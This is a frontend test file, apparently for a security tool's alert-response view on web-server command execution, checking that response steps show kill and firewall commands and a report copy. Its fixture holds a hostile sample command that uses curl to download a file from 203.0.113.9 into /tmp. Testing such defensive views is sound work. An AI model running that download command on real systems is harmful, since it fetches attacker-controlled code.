// @vitest-environment jsdom
import { cleanup, screen, waitFor, within } from '@testing-library/react';
import { afterEach, expect, test } from 'vitest';
import { renderApp } from '../../test/browser_app/render_app';
import { toAlertOfProcess } from '../../test/browser_app/sample_alerts';
import { toSampleStory, toStoryProcess, toStoryTree } from '../../test/browser_app/sample_story';

afterEach(cleanup);

const SCRIPT = ['sh', '-c', 'curl http://203.0.113.9/x -o /tmp/x'];
const openRespond = () => {
  const alert = toAlertOfProcess('alert-1', { args: SCRIPT });
  return renderApp({
    path: '/alerts/alert-1?tab=respond',
    answers: {
      'GET /internal/web_server_rce/alerts/*': () => ({ alert }),
      'GET /internal/web_server_rce/alerts/*/story': () => ({
        story: toSampleStory({
          trees: [toStoryTree([toStoryProcess(0, SCRIPT, { isOfAlert: true })])],
        }),
      }),
    },
  });
};
const findStep = async (place: number) =>
  within(await screen.findByTestId(`webServerRceStep-response-${place}`));

test('gives each step of the response what helps to do it, filled from the story', async () => {
  const { user, history } = openRespond();
  expect((await (await findStep(5)).findByTestId('webServerRceCommands')).textContent).toContain(
    'kill -KILL 4711'
  );
  expect((await findStep(6)).getByTestId('webServerRceCommands').textContent).toContain(
    'iptables -I OUTPUT -d 203.0.113.9 -j REJECT'
  );
  expect((await findStep(2)).getByTestId('webServerRceCommands').textContent).toContain('nft');
  expect((await findStep(12)).getByTestId('webServerRceTimes').textContent).toBe(
    'Detected 60 s after the event; acknowledged not yet and closed not yet after the alert.'
  );
  await user.click(
    (await findStep(3)).getByRole('button', { name: 'Show all alerts with 203.0.113.9' })
  );
  expect(new URLSearchParams(history.location.search).get('q')).toBe('203.0.113.9');
});

test('copies the whole case with a key', async () => {
  const { user, notices } = openRespond();
  await waitFor(() =>
    expect(screen.getByTestId('webServerRceCopyReport')).toHaveProperty('disabled', false)
  );
  screen.getByTestId('webServerRceCopyReport').focus();
  await user.keyboard('r');
  await waitFor(() => expect(notices.map(({ title }) => title)).toEqual(['Copied']));
  expect(await navigator.clipboard.readText()).toContain('# Command run through a web server');
});
